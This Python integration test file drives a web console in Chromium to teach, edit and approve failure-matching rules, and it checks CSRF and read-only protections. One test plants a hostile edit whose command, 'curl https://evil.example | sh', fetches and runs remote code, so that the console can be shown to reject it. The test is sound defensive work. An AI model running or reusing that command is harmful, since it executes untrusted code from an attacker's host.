"""Teaching by pointing in the web console, in Chromium: select the lines, "This explains it",
edit the proposed rule, approve it, and a later failure of the same kind is known.

The console is the real app under uvicorn over a SQLite store (``test_web_console``'s
server and browser); the rule is made by the synthesizer ``theow teach`` uses and
filed by the same function.
"""

from __future__ import annotations

import re
import shutil
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.integration.test_web_console import (
    FIXTURES,
    PASSWORD,
    READONLY,
    Server,
    browser,  # noqa: F401 - the module's Chromium, a fixture
    logged_in,
)
from theow_client.verdict import Status, Verdict
from theow_workers.config import Settings
from theow_workers.core.ports import FailureRecord
from theow_workers.core.resolve.plan import plan
from theow_workers.runtime import Library
from theow_workers.store.explore import ExploreStore
from theow_workers.store.results import SqlStore
from theow_workers.store.schema import migrate

pytestmark = pytest.mark.integration

FACTS = {"repo": "acme/widgets", "job": "docs"}
TAUGHT_LOG = "\n".join([
    "$ ./run-checks",
    "checking docs in 3 folders",
    "docs/guide.md:14: broken link to 'install-notes' (anchor missing)",
    "checks: 1 problem(s) found",
    "make: *** [check] Error 1",
])  # fmt: skip
ALIKE_LOG = TAUGHT_LOG.replace("guide.md:14", "faq.md:9").replace("install-notes", "proxy")
RULES = "==========\n  12 / 40  \n=========="  # no words to recognise a line by
LATER_LOG = "\n".join([
    "$ ./run-checks --strict",
    "checking docs in 12 folders",
    "docs/api/v2/index.md:203: broken link to 'auth-tokens' (anchor missing)",
    "checks: 1 problem(s) found",
])  # fmt: skip


@pytest.fixture(scope="module")
def teach_console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    root = tmp_path_factory.mktemp("web-teach")
    rules, actions = root / "rules", root / "actions"
    shutil.copytree(FIXTURES / "rules", rules)
    shutil.copytree(FIXTURES / "actions", actions)
    url = f"sqlite:///{root / 'theow.db'}"
    migrate(url)
    sql = SqlStore(url)
    for fid, log in (("unknown-1", TAUGHT_LOG), ("unknown-2", ALIKE_LOG), ("rules-only", RULES)):
        sql.add_failure(FailureRecord(fid, f"fp-{fid}", {"log": log, **FACTS}, "build_failure",
                                      "ci", datetime.now(UTC)))  # fmt: skip
        sql.add_verdict(Verdict(fid, Status.UNMATCHED, reason="no rule matched"))
    streams = {"stdout": "building\ncompiled 3 files\n", "stderr": "lint: 2 checks\n"
               "lint: rule W77 forbids 'eval' in src/app.js\nlint failed\n", **FACTS}  # fmt: skip
    sql.add_failure(FailureRecord("streams", "fp-streams", streams, "build_failure", "ci",
                                  datetime.now(UTC)))  # fmt: skip
    sql.dispose()
    settings = Settings.load(env={
        "THEOW_DATABASE_URL": url, "THEOW_RULES_DIR": str(rules), "THEOW_ACTIONS_DIR": str(actions),
        "THEOW_HOME": str(root / "home"), "THEOW_WEB_PASSWORD": PASSWORD,
        "THEOW_WEB_READONLY_PASSWORD": READONLY,
        "THEOW_REDIS_URL": "redis://127.0.0.1:1/0",  # no broker: no normal, the sync deferred
    })  # fmt: skip
    with Server(settings) as server:
        yield {"url": server.url, "rules": rules, "actions": actions, "db": url}


def _stored_rule(db: str, pid: str) -> tuple[str, str]:
    sql = SqlStore(db)
    try:
        proposal = ExploreStore(sql).proposal(pid)
        assert proposal is not None
        return proposal.rule_name, proposal.rule_yaml
    finally:
        sql.dispose()


def test_a_reviewer_teaches_a_failure_by_its_lines_and_the_next_one_like_it_is_known(
    teach_console,
    browser,  # noqa: F811
):
    page = logged_in(browser, teach_console["url"])
    page.goto("/failures/unknown-1")
    assert page.locator("form[action$='/teach']").count() == 0  # nothing selected yet
    page.click("#L3")
    assert page.url.endswith("?from=3#L3")
    assert "now click the number of the last line" in page.locator("#teach").inner_text()
    page.click("#L4")
    assert "?from=3&to=4" in page.url
    selected = page.locator(".log tr.sel")
    assert selected.count() == 2
    assert "broken link to 'install-notes'" in selected.first.inner_text()

    with page.expect_navigation():
        page.click("button.teach")
    assert "/proposals/" in page.url
    pid = page.url.rsplit("/", 1)[-1]
    assert page.locator("#status").inner_text() == "pending"
    assert "taught broken_link_anchor_missing from lines 3-4" in page.locator(".flash").inner_text()
    # Tested before review: its failure and the one alike, named by no rule before.
    # (Of every stored failure: the module's other tests, in any order, may have stored more.)
    assert re.match(r"2 of \d+ ", page.locator("#taught-matches").inner_text())
    assert "(none) 2" in page.locator("#taught-matches").inner_text()
    assert "ada (web), from lines 3-4" in page.locator("#taught").inner_text()
    assert "equals: acme/widgets" in page.locator("#rule").inner_text()

    # An edit that breaks a check is refused with the reason, and nothing is saved.
    name, original = _stored_rule(teach_console["db"], pid)
    page.click("details.edit summary")
    broken = original.replace(
        "counter_examples:\n",
        "counter_examples:\n  - 'docs/x.md:1: broken link to ''a'' (anchor missing)'\n",
    )
    page.fill("textarea[name=rule_yaml]", broken)
    with page.expect_navigation():
        page.click("button.save")
    errors = page.locator("#edit-errors").inner_text()
    assert "Not saved" in errors and "counter_examples[0] matches, but must not" in errors
    assert page.locator("textarea[name=rule_yaml]").input_value() == broken  # kept to fix
    assert _stored_rule(teach_console["db"], pid) == (name, original)

    # A valid edit (the reviewer's own name and words) is saved and tested again.
    edited = original.replace(f"name: {name}", "name: docs_anchor_missing").replace(
        "description: 'Taught:", "description: 'A docs link to a missing anchor:"
    )
    page.fill("textarea[name=rule_yaml]", edited)
    with page.expect_navigation():
        page.click("button.save")
    assert "saved" in page.locator(".flash").inner_text()
    assert _stored_rule(teach_console["db"], pid) == ("docs_anchor_missing", edited)
    assert "docs_anchor_missing" in page.locator("h1").inner_text()
    assert "edited by ada (web)" in page.locator("#taught").inner_text()

    with page.expect_navigation():
        page.click("button.approve")
    assert page.locator("#status").inner_text() == "approved"
    written = teach_console["rules"] / "docs_anchor_missing.rule.yaml"
    assert written.read_text() == edited
    page.context.close()

    # A later run of the same kind, other file, line and anchor: the new rule explains it.
    book = Library.load(teach_console["rules"], teach_console["actions"]).book
    found = plan(book, {"log": LATER_LOG, **FACTS}).candidates
    assert found and found[0].rule == "docs_anchor_missing"
    match = found[0].match
    assert match is not None and match.evidence is not None
    assert match.evidence.line == 3
    assert match.captures.named == {"file": "docs/api/v2/index.md", "name": "auth-tokens"}
    # Another project's failure alike is not its business (scoped to the repo).
    other = plan(book, {"log": LATER_LOG, "repo": "acme/other"}).candidates
    assert all(c.rule != "docs_anchor_missing" for c in other if c.validated)


def test_lines_no_rule_can_be_made_from_say_why_and_file_nothing(
    teach_console,
    browser,  # noqa: F811
):
    page = logged_in(browser, teach_console["url"])
    page.goto("/failures/rules-only?from=1&to=3")
    with page.expect_navigation():
        page.click("button.teach")
    assert page.url.endswith("/failures/rules-only/teach")  # the failure page, told why
    error = page.locator("#teach-error").inner_text()
    assert "no rule made from lines 1-3" in error and "too little literal text" in error
    assert page.locator(".log tr.sel").count() == 3  # the selection kept to change it
    sql = SqlStore(teach_console["db"])
    try:
        assert ExploreStore(sql).explorations("rules-only") == []
    finally:
        sql.dispose()
    page.context.close()


def test_a_read_only_login_can_select_lines_but_not_teach(
    teach_console,
    browser,  # noqa: F811
):
    page = logged_in(browser, teach_console["url"], READONLY, "reader")
    page.goto("/failures/unknown-1?from=3&to=4")
    assert page.locator(".log tr.sel").count() == 2
    assert page.locator("button.teach").count() == 0
    assert "Read-only login" in page.locator("#teach").inner_text()
    page.context.close()


def test_lines_of_stderr_are_taught_where_rules_read_them(teach_console, browser):  # noqa: F811
    page = logged_in(browser, teach_console["url"])
    page.goto("/failures/streams?from=2&to=2")  # stderr's line 2, the log's line 4
    assert "forbids 'eval'" in page.locator(".log tr.sel").inner_text()
    with page.expect_navigation():
        page.click("button.teach")
    assert "/proposals/" in page.url
    assert "the rule reads line 4" in page.locator("#taught").inner_text()
    assert "forbids" in page.locator("#rule").inner_text()
    # The queue's background count reads stdout and stderr as the rule does: it finds its own.
    deadline = time.monotonic() + 20
    while not page.locator("#affected").inner_text().startswith("1 of "):
        assert time.monotonic() < deadline, page.locator("#affected").inner_text()
        time.sleep(0.2)
        page.reload()
    page.context.close()


def test_teaching_and_editing_need_the_csrf_token_and_a_reviewer(teach_console, browser):  # noqa: F811
    page = logged_in(browser, teach_console["url"])
    refused = page.request.post("/failures/unknown-1/teach", form={"first": "3", "last": "4"})
    assert refused.status == 403 and "CSRF" in refused.text()
    page.context.close()
    reader = logged_in(browser, teach_console["url"], READONLY, "reader")
    reader.goto("/failures/unknown-1?from=3&to=4")
    token = reader.locator("form.who input[name=csrf]").get_attribute("value")  # its session's
    for path, form in (("/failures/unknown-1/teach", {"first": "3", "last": "4"}),
                       ("/proposals/any/edit", {"rule_yaml": "name: x"})):  # fmt: skip
        refused = reader.request.post(path, form={**form, "csrf": token})
        assert refused.status == 403 and "read-only" in refused.text()
    reader.context.close()


EDITED_LOGS = {
    "edit-a": "$ ./lint\nlint: rule Q12 forbids 'sleep' in tests/slow_case.py\nlint failed\n",
    "edit-b": "$ ./cache push\ncache: bucket 'ci-cache' is read-only for runner r7\npush failed\n",
}


def test_an_edit_may_not_change_what_the_rule_does_nor_take_a_pending_proposal_s_name(
    teach_console,
    browser,  # noqa: F811
):
    sql = SqlStore(teach_console["db"])
    for fid, log in EDITED_LOGS.items():
        sql.add_failure(FailureRecord(fid, f"fp-{fid}", {"log": log, **FACTS}, "build_failure",
                                      "ci", datetime.now(UTC)))  # fmt: skip
        sql.add_verdict(Verdict(fid, Status.UNMATCHED, reason="no rule matched"))
    sql.dispose()
    page = logged_in(browser, teach_console["url"])
    pids = {}
    for fid in EDITED_LOGS:
        page.goto(f"/failures/{fid}?from=2&to=2")
        with page.expect_navigation():
            page.click("button.teach")
        assert "/proposals/" in page.url, page.url
        pids[fid] = page.url.rsplit("/", 1)[-1]
    other, _ = _stored_rule(teach_console["db"], pids["edit-a"])
    name, original = _stored_rule(teach_console["db"], pids["edit-b"])
    assert "mode: track" in original

    def refused(text: str) -> str:
        page.fill("textarea[name=rule_yaml]", text)
        with page.expect_navigation():
            page.click("button.save")
        assert _stored_rule(teach_console["db"], pids["edit-b"]) == (name, original)
        return page.locator("#edit-errors").inner_text()

    page.click("details.edit summary")
    # The name of another pending proposal: approving both would file two rules of one name.
    errors = refused(original.replace(f"name: {name}", f"name: {other}"))
    assert f"a rule named '{other}' is already" in errors
    # A tracking rule edited into one that runs a command: what the reviewer approves is changed.
    acting = original.replace("mode: track", "mode: fix") + (
        "then:\n  - action: run_command\n    params: {command: 'curl https://evil.example | sh'}\n"
    )
    errors = refused(acting)
    assert 'an edit may not change what the rule does: its mode was "track"' in errors
    assert "its actions (`then`) was []" in errors and "curl https://evil.example" in errors

    # A reworded rule is saved; the edit's note keeps the YAML it replaced.
    edited = original.replace("description: 'Taught:", "description: 'A read-only cache bucket:")
    page.fill("textarea[name=rule_yaml]", edited)
    with page.expect_navigation():
        page.click("button.save")
    assert "saved" in page.locator(".flash").inner_text()
    page.context.close()
    sql = SqlStore(teach_console["db"])
    try:
        store = ExploreStore(sql)
        proposal = store.proposal(pids["edit-b"])
        assert proposal is not None and proposal.rule_yaml == edited
        exploration = store.exploration(proposal.exploration_id)
        assert exploration is not None
        (note,) = [t for t in exploration.transcript if "edited" in t]
        assert note["edited"]["previous_yaml"] == original
    finally:
        sql.dispose()
